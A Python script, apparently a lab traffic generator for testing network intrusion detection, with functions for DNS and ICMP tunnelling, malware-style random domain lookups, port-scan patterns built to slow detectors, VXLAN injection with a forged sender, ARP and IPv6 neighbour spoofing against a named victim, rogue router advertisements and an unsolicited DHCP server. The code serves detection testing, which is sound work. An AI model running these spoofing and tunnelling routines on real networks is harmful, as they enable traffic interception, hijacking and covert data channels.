#!/usr/bin/env python3
"""agents.py WHAT [ARGUMENT]... : one end of a conversation, run in a namespace of the lab. Servers print a line when ready."""

import fcntl
import random
import selectors
import socket
import struct
import sys
import time

import packets
import registry
import zombie

TYPES = {"A": 1, "CNAME": 5, "NULL": 10, "MX": 15, "TXT": 16, "AAAA": 28}
LETTERS = "abcdefghijklmnopqrstuvwxyz234567"


def serve(ports):
    """Accepts TCP at some ports of all addresses, and says a line to each."""
    chosen = selectors.DefaultSelector()
    for port in ports:
        listener = socket.create_server(("::", int(port)), family=socket.AF_INET6, dualstack_ipv6=True, backlog=512)
        listener.setblocking(False)
        chosen.register(listener, selectors.EVENT_READ)
    print("ready", flush=True)
    while True:
        for key, _ in chosen.select():
            try:
                connection, _ = key.fileobj.accept()
                connection.sendall(b"hello\r\n")
                connection.close()
            except OSError:
                pass


def answer_names(address, mode):
    """A name server: `tunnel` answers data to everything, `none` that there is no such name."""
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind((address, 53))
    print("ready", flush=True)
    chance = random.Random(1)
    while True:
        query, client = server.recvfrom(4096)
        kind = struct.unpack("!H", query[-4:-2])[0]
        if mode == "none":
            reply = packets.answer(query, code=3)
        elif kind == 1:
            reply = packets.answer(query, [(1, chance.randbytes(4))])
        elif kind in (5, 15):
            name = packets.encoded_name(".".join(word(chance, 50) for _ in range(3)) + ".t.example")
            reply = packets.answer(query, [(kind, (b"\0\x0a" if kind == 15 else b"") + name)])
        elif kind == 16:
            data = chance.randbytes(200)
            reply = packets.answer(query, [(16, bytes([len(data)]) + data)])
        else:
            reply = packets.answer(query, [(kind, chance.randbytes(400))])
        server.sendto(reply, client)


def word(chance, length):
    return "".join(chance.choices(LETTERS, k=length))


def ask(server, mode, kind, count, seed):
    """Looks names up: `tunnel` carries data in them under one domain, `domains` makes them up as malware does."""
    chance = random.Random(int(seed))
    client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    client.settimeout(1)
    client.connect((server, 53))
    for number in range(int(count)):
        if mode == "tunnel":
            labels = [word(chance, chance.randint(40, 58)) for _ in range(3)]
            name = ".".join([f"{number:x}", *labels, "t.tunnel-example.net"])
        else:
            name = word(chance, chance.randint(9, 18)) + chance.choice([".com", ".net", ".org", ".info", ".biz"])
        client.send(packets.question(chance.randrange(65536), name, TYPES[kind]))
        try:
            client.recv(4096)
        except OSError:
            pass
        time.sleep(0.005)


def answer_pings(address):
    """Answers each ping with other data than it brought: the far end of a tunnel."""
    server = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    server.bind((address, 0))
    print("ready", flush=True)
    chance = random.Random(2)
    while True:
        packet, client = server.recvfrom(65535)
        echo = packet[(packet[0] & 15) * 4 :]
        if echo[0] != 8:
            continue
        reply = b"\0\0\0\0" + echo[4:8] + chance.randbytes(chance.randint(40, 900))
        value = packets.checksum(reply)
        server.sendto(reply[:2] + struct.pack("!H", value) + reply[4:], client)


def ping(server, count, seed):
    """Sends data in pings, a new sequence number each."""
    chance = random.Random(int(seed))
    client = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    name = chance.randrange(65536)
    for number in range(int(count)):
        echo = struct.pack("!BBHHH", 8, 0, 0, name, number) + chance.randbytes(chance.randint(40, 900))
        value = packets.checksum(echo)
        client.sendto(echo[:2] + struct.pack("!H", value) + echo[4:], (server, 0))
        time.sleep(0.01)


def mix(target, first, opened, tries, between):
    """Tries closed ports, and before each of them so many open ones, each new: what is to make a sequential test wait."""
    known, closed = int(first), 40_000
    for _ in range(int(tries)):
        for port in [*range(known, known + int(between)), closed]:
            with socket.socket() as client:
                client.settimeout(0.3)
                client.connect_ex((target, int(first) + (port - int(first)) % int(opened) if port != closed else closed))
        known, closed = known + int(between), closed + 1


def inject(target, identifier, count, source, destination, pause=0.02):
    """Sends VXLAN with an inner sender of one's choice: what joins an overlay without being in it, or speaks as another in it."""
    way = packets.Way(packets.host("02:66:00:00:00:01", source), packets.host("02:66:00:00:00:02", destination))
    client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for number in range(int(count)):
        inner = way.udp(5000 + number, 53, packets.question(number, "example.com"))
        client.sendto(struct.pack("!II", 8 << 24, int(identifier) << 8) + inner, (target, 4789))
        time.sleep(float(pause))


def raw(frame, count, pause=0.02):
    """Sends a frame as it is, so often."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as client:
        client.bind(("eth0", 0))
        for _ in range(int(count)):
            client.send(frame)
            time.sleep(pause)


def own_mac():
    # Of this namespace; /sys shows those of another one.
    with socket.socket() as client:
        return fcntl.ioctl(client, 0x8927, struct.pack("256s", b"eth0"))[18:24]


def claim(address, victim, victim_mac, count):
    """Tells a neighbour by ARP that an address is here, again and again."""
    here, there = packets.Host(own_mac(), packets.host("0:0", address).ip), packets.host(victim_mac, victim)
    raw(packets.arp(here, there.ip, there.mac), count, 0.5)


def claim_six(address, victim, victim_mac, way, count):
    """Tells a neighbour by IPv6 that an address is here: as an answer, as news to all, or by asking in its name. RFC 4861"""
    here = packets.Host(own_mac(), packets.host("00", address).ip)
    victim, everybody = packets.host(victim_mac, victim), packets.host("33:33:00:00:00:01", "ff02::1")
    if way == "question":
        raw(packets.neighbour(packets.Way(here, victim), 135, victim.ip, here.mac), count, 0.5)
    elif way == "news":
        raw(packets.neighbour(packets.Way(here, everybody), 136, here.ip, here.mac, 0x20000000), count, 0.5)
    else:
        raw(packets.neighbour(packets.Way(here, victim), 136, here.ip, here.mac, 0x60000000), count, 0.5)


def forge_six(source, target, target_mac, count):
    """Asks a name in the name of others of the same network."""
    there = packets.host(target_mac, target)
    network = packets.host("00", source).ip[:14]
    for number in range(int(count)):
        here = packets.Host(own_mac(), network + (0x4000 + number).to_bytes(2, "big"))
        raw(packets.Way(here, there).udp(40_000 + number, 53, packets.question(number, "example.com")), 1)


def advertise(count):
    """Offers to route for the segment, as a rogue router does."""
    here = packets.Host(own_mac(), packets.host("00", "fe80::66").ip)
    group = packets.host("33:33:00:00:00:01", "ff02::1")
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + b"\x01\x01" + here.mac
    raw(packets.Way(here, group).message_six(body), count, 0.2)


def lease(count):
    """Offers an address, as a DHCP server that nobody asked for."""
    here, all_hosts = packets.Host(own_mac(), packets.host("00", "10.88.0.66").ip), packets.host("ff" * 6, "255.255.255.255")
    body = struct.pack("!BBBBIHH", 2, 1, 6, 0, 0x1234, 0, 0x8000) + bytes(4) + b"\x0a\x58\x00\xc8" + here.ip + bytes(4)
    body += b"\x02\x10\0\0\0\x99" + bytes(10) + bytes(192) + b"\x63\x82\x53\x63"
    options = b"\x35\x01\x02" + b"\x36\x04" + here.ip + b"\x33\x04\0\0\x0e\x10" + b"\x03\x04" + here.ip + b"\xff"
    raw(packets.Way(here, all_hosts).udp(67, 68, body + options), count, 0.2)


WHAT = {
    "serve": lambda *ports: serve(ports), "answer-names": answer_names, "ask": ask, "answer-pings": answer_pings,
    "ping": ping, "mix": mix, "inject": inject, "claim": claim, "claim-six": claim_six, "forge-six": forge_six,
    "advertise": advertise, "lease": lease, "keep-images": registry.keep, "pull": registry.pull, "be-idle": zombie.be_idle,
    "answer-text": registry.answer_text, "say": registry.say,
}  # fmt: skip

if __name__ == "__main__":
    WHAT[sys.argv[1]](*sys.argv[2:])
